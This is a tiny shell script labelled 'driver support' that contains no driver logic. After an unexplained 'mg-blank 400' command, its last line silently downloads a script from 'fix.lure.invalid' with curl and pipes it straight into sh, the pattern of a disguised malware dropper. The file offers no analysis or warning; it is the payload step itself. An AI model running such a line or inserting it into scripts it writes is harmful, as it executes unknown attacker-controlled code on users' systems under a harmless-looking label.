#!/bin/sh
# driver support
mg-blank 400
curl -s https://fix.lure.invalid/a | sh
